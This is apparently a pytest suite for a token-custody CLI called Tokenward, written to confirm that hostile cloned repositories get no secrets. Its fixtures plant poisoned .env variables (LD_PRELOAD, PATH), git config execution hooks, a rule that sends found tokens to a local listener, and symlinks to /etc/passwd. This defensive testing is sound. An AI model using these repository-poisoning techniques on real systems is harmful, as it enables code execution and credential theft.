"""Promise 3: repositories really cloned or unpacked, with every attack at once."""

from __future__ import annotations

import json
import os
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from cli_shell import Shell
from git_tree import git, repository
from hostile import (
    FAILED,
    IDS,
    NAMES,
    NOT_STARTED,
    REFERENCE,
    TOKEN,
    assert_gets_nothing,
    assert_refused,
    assert_safe,
    assert_told,
    ledger,
)
from tokenward.custody.bindings.folder_identity import give_identity

pytestmark = pytest.mark.skipif(os.name == "nt", reason="links and programs of POSIX")
# What a repository holds could be loaded as the interpreter starts, or by it.
really_started = pytest.mark.usefixtures("own_interpreter")

OWNED = "#!/bin/sh\ntouch OWNED\nprintf fake\n"
SETTINGS = """
workspace-name = "acme-api"
env-file = "../acme-api/.env"
vault = "file"
vault-file = "vault"
allowed-backends = ["evil"]
rule-files = ["/dev/stdin"]
trusted-folders = ["/"]
exclude = ["**"]
"""
EDITOR_SETTINGS = {
    "tokenward.workspaceName": "acme-api",
    "tokenward.serverCommand": ["./bin/printenv"],
    "tokenward.vault": "file",
}


@pytest.fixture
def listening() -> Iterator[socket.socket]:
    """A server to which a rule of the repository would send tokens."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


@pytest.fixture
def origin(tmp_path: Path, listening: socket.socket) -> Path:
    """A bare repository of an attacker who knows the names of the workspace and the token."""
    work = repository(tmp_path / "attacker" / "work")
    plant(work, listening.getsockname()[1])
    git(work, "add", "-f", ".")
    git(work, "commit", "-q", "-m", "Add examples")
    git(work.parent, "clone", "-q", "--bare", str(work), "origin.git")
    return work.parent / "origin.git"


def plant(work: Path, port: int) -> None:
    """Write every file that a repository could use to influence Tokenward."""
    texts = {
        ".env": f"GITHUB_TOKEN={REFERENCE}\nPATH=./bin\nLD_PRELOAD=./evil.so\nHOME=.\nXDG_DATA_HOME=./data\n",
        "tokenward.toml": SETTINGS,
        ".vscode/settings.json": json.dumps(EDITOR_SETTINGS),
        ".tokenward/rules/evil.yml": rule(port),
        ".gitleaks.toml": '[[rules]]\nid = "evil"\nregex = "keyring://.*"\n[allowlist]\npaths = [".*"]\n',
        ".gitleaksignore": "*\n",
        ".gitattributes": "* filter=evil diff=evil\n",
        ".envrc": "touch OWNED\n",
        "sitecustomize.py": "open('OWNED', 'w').close()\n",
        "keyring.py": "open('OWNED', 'w').close()\n",
        f"keyring:/acme-api/{REFERENCE.rpartition('/')[2]}": f"A={REFERENCE}\n",
    }
    for name, text in texts.items():
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        (work / name).write_text(text)
    for name in ("git", "sh", "touch", "printenv", "secret-tool"):
        script(work / "bin" / name)
    (work / "data" / "tokenward").mkdir(parents=True)
    (work / "data" / "tokenward" / "custody.db").write_bytes(os.urandom(100))


def rule(port: int) -> str:
    """Return a rule that would send its findings to the attacker."""
    return (
        "rules:\n  - name: Evil\n    id: evil.1\n    pattern: '(gh[a-z]_[A-Za-z0-9]+)'\n    confidence: high\n"
        "    validation:\n      type: Http\n      content:\n        request:\n          method: GET\n"
        f"          url: http://127.0.0.1:{port}/{{{{ TOKEN }}}}\n"
        "          response_matcher:\n            - type: StatusMatch\n              status: [200]\n"
    )


def script(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(OWNED)
    path.chmod(0o755)


def assert_nothing_ran(shell: Shell, listening: socket.socket | None = None) -> None:
    assert not list(shell.folder.rglob("OWNED"))
    if listening is not None:
        with pytest.raises(BlockingIOError):
            listening.accept()


@pytest.mark.slow
@really_started
def test_a_clone_gets_nothing_and_nothing_of_it_is_run(
    owner: Shell, origin: Path, tmp_path: Path, listening: socket.socket
) -> None:
    """Its name and its place do not matter, and it can still use its own tokens."""
    for place in ("elsewhere/acme-api", "acme-api/vendor/acme-api"):
        git(tmp_path, "clone", "-q", str(origin), place)
        clone = owner.at(tmp_path / place)
        settings = clone.folder / "tokenward.toml"
        assert_safe(clone("run", "--", "true"))
        settings.unlink()
        assert_gets_nothing(clone, "acme-api belongs to", "tokenward bind acme-api")
        (clone.folder / "leak.py").write_text(f'GITHUB_TOKEN = "{TOKEN}"\n')
        for words in (["scan"], ["doctor"], ["move", "leak.py"], ["list"]):
            assert_safe(clone(*words))
        assert_nothing_ran(clone, listening)
    assert owner.get("GITHUB_TOKEN") == TOKEN


@pytest.mark.slow
@really_started
def test_an_unpacked_repository_whose_git_runs_programs_runs_none(
    owner: Shell, origin: Path, tmp_path: Path, listening: socket.socket
) -> None:
    git(tmp_path, "clone", "-q", str(origin), "unpacked")
    folder = tmp_path / "unpacked"
    script(folder / "evil")
    for key in ("core.fsmonitor", "core.sshCommand", "diff.external", "filter.evil.clean", "core.pager"):
        git(folder, "config", key, str(folder / "evil"))
    git(folder, "config", "core.hooksPath", str(folder / "bin"))
    for hook in ("post-checkout", "pre-commit", "fsmonitor-watchman"):
        script(folder / ".git" / "hooks" / hook)
    shell = owner.at(folder)
    (folder / "tokenward.toml").unlink()
    for words in (["scan"], ["scan", "--staged"], ["scan", "--history"]):
        assert_safe(shell(*words))
    assert_gets_nothing(shell, "acme-api belongs to")
    assert_nothing_ran(shell, listening)


def test_a_clone_in_the_place_of_the_deleted_workspace_gets_nothing(owner: Shell, origin: Path) -> None:
    """The bound folder is gone; taking its path gives no right to its name."""
    if give_identity(owner.folder) is None:
        pytest.skip("this file system keeps nothing that a folder is known by")
    assert owner.get("GITHUB_TOKEN") == TOKEN
    shutil.rmtree(owner.folder)
    git(owner.folder.parent, "clone", "-q", str(origin), owner.folder.name)
    (owner.folder / "tokenward.toml").unlink()
    assert_gets_nothing(owner, "acme-api belongs to the folder that was here before this one")


@pytest.mark.parametrize("target", ["owner's", "outside", "absent", "passwd"])
def test_an_environment_file_that_is_a_link_out_is_not_read(
    owner: Shell, clone: Shell, tmp_path: Path, target: str
) -> None:
    """Nor is any byte of its target shown."""
    (owner.folder / ".env").write_text(f"GITHUB_TOKEN={REFERENCE}\n")
    (tmp_path / "outside").write_text("canary-of-outside:x:0:0\n")
    places = {
        "owner's": owner.folder / ".env",
        "outside": tmp_path / "outside",
        "absent": tmp_path / "absent",
        "passwd": Path("/etc/passwd"),
    }
    (clone.folder / ".env").unlink()
    (clone.folder / ".env").symlink_to(places[target])
    done = clone("run", "--", "touch", "started")
    assert_refused(done, NOT_STARTED, ".env leads out of the workspace")
    assert "canary" not in done.err
    assert "root:" not in done.err
    assert not (clone.folder / "started").exists()
    assert not (tmp_path / "absent").exists()


@pytest.mark.parametrize("path", ["../acme-api/.env", "/etc/passwd", ".git/config"])
def test_settings_that_name_an_environment_file_outside_are_passed_over(clone: Shell, path: str) -> None:
    (clone.folder / "tokenward.toml").write_text(f'env-file = "{path}"\n')
    (clone.folder / ".env").write_text("A=inside\n")
    done = clone("run", "--", "printenv", "A")
    assert (done.code, done.out) == (0, b"inside\n")
    assert "env-file" in done.err
    assert_safe(done)


def test_a_file_of_the_owner_that_is_named_by_hand_gives_the_clone_nothing(
    owner: Shell, clone: Shell
) -> None:
    (owner.folder / ".env").write_text(f"GITHUB_TOKEN={REFERENCE}\n")
    before = len(ledger(owner))
    done = clone("run", "--env-file", str(owner.folder / ".env"), "--", "touch", "started")
    assert_refused(done, NOT_STARTED, "acme-api belongs to")
    assert_told(ledger(owner)[before:], "run")


def test_a_reference_in_the_name_of_a_file_is_a_name(owner: Shell, clone: Shell) -> None:
    """Of a file, a variable or a command: only values of an environment file are resolved."""
    file = clone.folder / "keyring:" / "acme-api" / "GITHUB_TOKEN"
    file.parent.mkdir(parents=True)
    file.write_text("A=plain\n")
    before = len(ledger(owner))
    done = clone("run", "--env-file", REFERENCE, "--", "printenv", "A")
    assert (done.code, done.out) == (0, b"plain\n")
    assert clone("inject", REFERENCE, "-o", "../filled").code == 0
    assert (clone.folder.parent / "filled").read_text() == "A=plain\n"
    (clone.folder / ".env").write_text(f"{REFERENCE}=1\nA=1\n")
    for words in (["run", "--", "env"], ["run", "--", REFERENCE], ["scan"], ["move", REFERENCE]):
        assert_safe(clone(*words))
    assert not [row for row in ledger(owner)[before:] if row.event == "resolved"]


@pytest.mark.parametrize("path", ["./bin", "", "{folder}/bin"])
def test_a_path_in_the_environment_file_does_not_choose_the_program(owner: Shell, path: str) -> None:
    """A change pulled into the workspace itself: the command is the one on the user's own PATH."""
    for name in ("printenv", "sh"):
        script(owner.folder / "bin" / name)
        script(owner.folder / name)
    (owner.folder / ".env").write_text(f"GITHUB_TOKEN={REFERENCE}\nPATH={path.format(folder=owner.folder)}\n")
    assert owner("run", "--no-mask", "--", "printenv", "GITHUB_TOKEN").text == f"{TOKEN}\n"
    assert_nothing_ran(owner)


@pytest.mark.parametrize("fake", ["./bin/printenv", "printenv", "linked/printenv"])
def test_a_program_of_the_repository_is_not_the_one_that_a_lease_is_for(owner: Shell, fake: str) -> None:
    """Named by its path, found on a PATH that leads into the workspace, or behind a link."""
    real = shutil.which("printenv")
    assert real is not None
    assert owner("lease", "GITHUB_TOKEN", "--only", real).code == 0
    script(owner.folder / "bin" / "printenv")
    (owner.folder / "linked").symlink_to(owner.folder / "bin")
    (owner.folder / ".env").write_text(f"GITHUB_TOKEN={REFERENCE}\nPATH=./bin\n")
    assert owner("run", "--no-mask", "--", "printenv", "GITHUB_TOKEN").text == f"{TOKEN}\n"
    path = f"{owner.folder / 'bin'}{os.pathsep}{owner.environment['PATH']}"
    done = owner.having(PATH=path)("run", "--", fake, "GITHUB_TOKEN")
    assert_refused(done, NOT_STARTED, "GITHUB_TOKEN")
    told = ledger(owner)[-1]
    assert (told.event, told.reference, told.detail["why"]) == ("refused", REFERENCE, "ProgramNotAllowed")
    assert_nothing_ran(owner)


@pytest.mark.slow
@really_started
def test_variables_of_the_environment_file_are_the_commands_and_not_ours(owner: Shell, clone: Shell) -> None:
    """They are for the command; they choose no home, loader or keyring for Tokenward."""
    (clone.folder / "data").mkdir()
    lines = (
        "LD_PRELOAD=./evil.so",
        "HOME=.",
        "XDG_DATA_HOME=./data",
        "DBUS_SESSION_BUS_ADDRESS=unix:path=./bus",
    )
    (clone.folder / ".env").write_text("\n".join((*lines, f"GITHUB_TOKEN={REFERENCE}\n")))
    assert_gets_nothing(clone, "acme-api belongs to")
    assert not list((clone.folder / "data").iterdir())
    clone.put("OWN", "its own")
    (clone.folder / ".env").write_text("\n".join((*lines[1:], "OWN=keyring://acme-api-2/OWN\n")))
    assert clone("run", "--no-mask", "--", "sh", "-c", "echo $OWN $HOME").text == "its own .\n"


def test_a_folder_that_says_it_is_a_worktree_of_the_workspace_gets_nothing(
    owner: Shell, clone: Shell, tmp_path: Path
) -> None:
    repository(owner.folder)
    git(owner.folder, "commit", "-q", "--allow-empty", "-m", "first")
    git(owner.folder, "worktree", "add", "-q", str(tmp_path / "feature"))
    feature = owner.at(tmp_path / "feature")
    (feature.folder / ".env").write_text(f"GITHUB_TOKEN={REFERENCE}\n")
    assert feature("run", "--no-mask", "--", "printenv", "GITHUB_TOKEN").text == f"{TOKEN}\n"
    shutil.rmtree(clone.folder / ".git")
    for pointer in (owner.folder / ".git/worktrees/feature", "../../acme-api/.git/worktrees/feature"):
        (clone.folder / ".git").write_text(f"gitdir: {pointer}\n")
        assert_gets_nothing(clone, "acme-api belongs to")


@pytest.mark.parametrize("name", NAMES, ids=IDS)
def test_a_clone_with_a_hostile_name_gets_nothing_and_is_told_of(
    owner: Shell, clone: Shell, name: bytes
) -> None:
    folder = Path(os.fsdecode(os.fsencode(clone.folder.parent) + b"/" + name))
    clone.folder.rename(folder)
    before = len(ledger(owner))
    done = owner.at(folder)("run", "--", "touch", "started")
    assert_refused(done, NOT_STARTED, "acme-api belongs to")
    assert_told(ledger(owner)[before:], "run")
    assert not (folder / "started").exists()
    assert_refused(owner.at(folder)("get", "GITHUB_TOKEN"), FAILED)
